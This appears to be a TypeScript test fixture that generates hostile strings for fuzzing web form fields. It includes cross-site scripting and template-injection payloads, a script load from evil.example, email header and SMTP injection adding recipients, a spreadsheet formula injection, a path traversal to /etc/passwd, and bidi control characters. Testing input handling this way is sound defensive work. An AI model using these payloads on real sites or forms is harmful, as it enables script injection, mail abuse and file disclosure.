import type { Random } from '../../fakes/shared/random.ts';

/** Where a text comes in. */
export const FIELDS = ['name', 'subject', 'comment', 'email', 'agent', 'address', 'code', 'search'] as const;
export type Field = (typeof FIELDS)[number];

export type HostileText = { readonly field: Field; readonly kind: string; readonly text: string };

const MARKUP = [
  '<script>alert(1)</script>',
  '<img src=x onerror=alert(1)>',
  '"><svg/onload=alert(1)>',
  "'-alert(1)-'",
  '</title><script src=//evil.example></script>',
  '</textarea><iframe srcdoc="<script>alert(1)</script>">',
  '<a href="javascript:alert(1)">press</a>',
  '{{constructor.constructor "alert(1)"}}',
  '{{{this}}} {{> parts/form}}',
  '${7*7} #{7*7} <%= 7*7 %>',
  '&lt;script&gt;alert(1)&lt;/script&gt; &#60;b&#62;',
  '<!--[if IE]><script>alert(1)</script><![endif]-->',
  '<style>*{display:none}</style>',
  '<meta http-equiv=refresh content="0;url=https://evil.example">',
  '<form action=https://evil.example><button>Allow',
] as const;
const BIDI = ['\u202e', '\u202d', '\u2066', '\u2067', '\u2069', '\u200f', '\u200e', '\u061c'] as const;
const LINES = [
  '\r\nBcc: all@evil.example',
  '\nTo: second@evil.example',
  '\r\n\r\nA body of my own',
  '\u2028',
  '\u0085',
] as const;
const ADDRESSES = [
  'a@customer.example, b@evil.example',
  'a@customer.example;b@evil.example',
  '"A <b@evil.example>" <a@customer.example>',
  'a@customer.example\r\nRCPT TO:<b@evil.example>',
  'a@customer.example b@evil.example',
  '<a@customer.example>',
  'a@[127.0.0.1]',
  'a@customer.example>\r\nDATA',
  "a'--@customer.example",
  '=?utf-8?q?a=40customer=2Eexample?=',
] as const;
const EMOJI = ['👩🏽‍💻', '🏴‍☠️', '👨‍👩‍👧‍👦', '🇹🇼', '\u{1f600}\u{fe0f}', 'Z̸̡̛͎̈́ǎ̷l̵g̶o̴', '𝕸𝖆𝖞', '\ud83d', '\u200b\u200d'] as const;
const WORDS = [
  'May Lin',
  'مريم',
  '林美',
  'Łukasz',
  'O’Brien',
  '123 456 789',
  '=cmd|calc!A1',
  '../../etc/passwd',
  'null',
  '%0d%0a',
];

const KINDS: Readonly<Record<string, (random: Random) => string>> = {
  markup: (random) => `${pick(WORDS, random)} ${pick(MARKUP, random)} ${pick(MARKUP, random)}`,
  bidi: (random) => `${pick(BIDI, random)}${pick(WORDS, random)}${pick(BIDI, random)}${pick(WORDS, random)}`,
  lines: (random) => `${pick(WORDS, random)}${pick(LINES, random)}${pick(MARKUP, random)}`,
  addresses: (random) => pick(ADDRESSES, random),
  emoji: (random) => `${pick(EMOJI, random)} ${pick(WORDS, random)} ${pick(EMOJI, random)}`,
  long: (random) => `${pick(MARKUP, random)}${pick(EMOJI, random)}`.repeat(400).slice(0, 10_000),
  'as long as it may be': (random) => `<b>${pick(WORDS, random)}</b>`.repeat(30).slice(0, 110),
};

/** `count` texts, the same ones for the same generator: every field with every kind of text, over and over. */
export function hostileTexts(count: number, random: Random): readonly HostileText[] {
  const kinds = Object.entries(KINDS);
  return Array.from({ length: count }, (_, index) => {
    const field = FIELDS[index % FIELDS.length] ?? 'name';
    const [kind, make] = kinds[Math.floor(index / FIELDS.length) % kinds.length] ?? ['', () => ''];
    return { field, kind, text: make(random) };
  });
}

function pick<Item>(items: readonly Item[], random: Random): Item {
  const found = items[Math.floor(random() * items.length)];
  if (found === undefined) throw new Error('there is nothing to pick from');
  return found;
}
